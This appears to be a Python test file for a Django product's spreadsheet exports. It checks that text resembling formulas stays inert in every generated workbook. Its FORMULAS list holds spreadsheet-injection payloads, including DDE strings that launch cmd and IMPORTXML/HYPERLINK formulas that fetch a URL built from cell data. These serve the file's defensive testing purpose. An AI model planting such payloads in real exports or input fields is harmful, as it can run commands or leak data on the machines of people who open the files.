"""Text that a spreadsheet would take for a formula is text in every workbook, letter by letter."""

from io import BytesIO

import pytest
from django.http import HttpResponse
from django.test import Client
from openpyxl import load_workbook
from openpyxl.cell import Cell

from core.sheets import Sheet, SheetColumn, workbook
from core.text import nfc
from tests.abuse.rights import addresses, browser
from tests.abuse.world import world  # noqa: F401 - a fixture
from tests.portal.test_hostile_text import poison

pytestmark = pytest.mark.django_db

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=HYPERLINK("http://example.org","Bấm")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=cmd|'/C calc'!'A1'",
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "\u200b=1+1",
    "{=1+1}",
    "http://example.org/",
)
XLSX = "spreadsheetml"


def test_every_workbook_of_the_product_is_inert(world):  # noqa: F811
    assert poison(FORMULAS) > 500
    books = [
        (url, book)
        for role in ("quantri", "vanphongtoicao")
        for url in {url for _, _, url, _ in addresses(world.own)}
        if (book := workbook_of(browser(role), url)) is not None
    ]
    assert len({url for url, _ in books}) > 8
    faults = [f"{url} {fault}" for url, book in books for fault in faults_of(book)]
    assert faults == []
    told = {str(cell.value) for _, book in books for cell in cells(book)}
    assert {
        text for text in FORMULAS[:5] if not any(text.strip() in each for each in told)
    } == set()


def test_what_goes_into_a_cell_comes_out_of_it():
    rows = tuple((text,) for text in FORMULAS)
    sheet = Sheet("Thử", (SheetColumn("Chữ", 20),), rows)
    book = workbook([sheet])
    read = [cell.value for cell in cells(book)][1:]
    assert read == [nfc(text).replace("\r", "\n") for text in FORMULAS]
    assert faults_of(book) == []


def workbook_of(client: Client, url: str) -> bytes | None:
    """The workbook an address gives, be it a list's or its own."""
    answer: HttpResponse = client.get(url, {"xuat": "xlsx"})
    is_book = XLSX in answer.headers.get("Content-Type", "")
    return answer.getvalue() if is_book else None


def cells(book: bytes) -> list[Cell]:
    return [
        cell
        for page in load_workbook(BytesIO(book))
        for row in page.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def faults_of(book: bytes) -> list[str]:
    """Cells that would be reckoned, linked, or become a formula once somebody edits them."""
    found = []
    for cell in cells(book):
        text = cell.value if isinstance(cell.value, str) else ""
        is_bare = text.startswith(STARTS) and not cell.quotePrefix
        if cell.data_type == "f" or cell.hyperlink is not None or is_bare:
            found.append(f"{cell.coordinate} {cell.data_type} {cell.value!r}")
    return found
